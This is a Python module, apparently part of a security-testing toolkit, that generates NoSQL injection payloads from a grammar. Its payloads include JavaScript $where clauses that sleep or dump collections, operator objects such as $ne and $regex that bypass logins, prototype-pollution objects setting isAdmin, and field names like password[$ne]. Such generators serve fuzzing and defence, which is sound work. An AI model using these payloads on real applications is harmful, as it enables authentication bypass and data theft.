"""NoSQL injection: operators where a plain value was expected, and JavaScript in queries."""

from __future__ import annotations

from random import Random
from typing import Any

from securitai.demo.payloads.grammar import Grammar

TEXT = Grammar(
    {
        "start": (
            "«lead»' || «js» || '«rnd»'=='",
            "«lead»'; return «js»; var «rnd»='",
            '«lead»"; return «js»; //',
            '{"$where": "«js»"}',
            '{"$«op»": «value»}',
            '{"«id»": {"$«op»": «value»}}',
            '[{"$match": {"«id»": {"$«op»": «value»}}}]',
            "«lead»', $or: [ {}, {'«id»':'«rnd»",
            "«lead»'}, {$where: '«js»'}, {'«id»':'",
            "{$gt: '«rnd»'}",
            "';sleep(«m»);var «rnd»='«n»",
            "true, $where: '«js»'",
            '{"$or": [{"«id»": «value»}, {"«id»": {"$ne": «m»}}]}',
        ),
        "lead": ("", "«n»", "«rnd»", "«word»"),
        "op": ("ne", "gt", "gte", "lt", "regex", "in", "nin", "exists", "where", "not", "expr"),
        "value": ("null", "«m»", '""', '"«rnd»"', '"^«rnd»"', '["«rnd»",«n»]', "true", "{}"),
        "js": (
            "this.«id»=='«rnd»'",
            "«n»==«n»",
            "this.«id».match(/«rnd».*/)",
            "sleep(«m»)",
            "function(){return this.«id»>«n»}",
            "tojson(db.«id».find())",
            "db.getCollectionNames().length>«n»",
            "this['«id»']!='«rnd»'",
            "new Date()-«m»<«m»",
        ),
    }
)

_OPERATORS = (
    "$ne",
    "$gt",
    "$gte",
    "$lt",
    "$regex",
    "$in",
    "$nin",
    "$exists",
    "$where",
    "$not",
    "$eq",
)
_SCRIPT = Grammar(
    {"start": ("«js»",), "js": ("this.«id»=='«rnd»'", "sleep(«m»)||«n»", "this.«id».length>«m»")}
)


def leaf(rng: Random) -> Any:
    """A JSON value that carries an operator, to stand where a plain value was expected."""
    operator = rng.choice(_OPERATORS)
    shape = rng.randrange(10)
    if shape == 0:
        return {"$or": [{"x": operand(rng, "$eq")}, {operator: operand(rng, operator)}]}
    if shape == 1:
        return [{operator: operand(rng, operator)}]
    if shape == 2:
        return {"__proto__": {rng.choice(("isAdmin", "role", "polluted")): operand(rng, "$eq")}}
    if shape == 3:
        return {operator: operand(rng, operator), "$ne": rng.randrange(10**6)}
    return {operator: operand(rng, operator)}


def operand(rng: Random, operator: str) -> Any:
    """What goes with an operator."""
    if operator == "$where":
        return _SCRIPT.make(rng)
    if operator == "$regex":
        return rng.choice(("^", ".*", "^a", "[a-z]+", ".{0,")) + f"{rng.getrandbits(20):x}"
    if operator in {"$in", "$nin"}:
        return [f"{rng.getrandbits(24):x}" for _ in range(rng.randrange(1, 4))]
    return rng.choice((None, "", True, rng.randrange(1000), f"{rng.getrandbits(28):x}"))


def name(rng: Random, field: str) -> tuple[str, str]:
    """A form or query field whose name carries an operator: ``password[$ne]=1``."""
    operator = rng.choice(_OPERATORS)
    value = operand(rng, operator)
    shape = rng.choice(
        ("{f}[{o}]", "{f}[{o}]", "{f}.{o}", "{f}[{o}][]", "__proto__[{f}]", "{f}[$not][{o}]")
    )
    text = value[0] if isinstance(value, list) else value
    return shape.format(f=field, o=operator), "" if text is None else str(text)
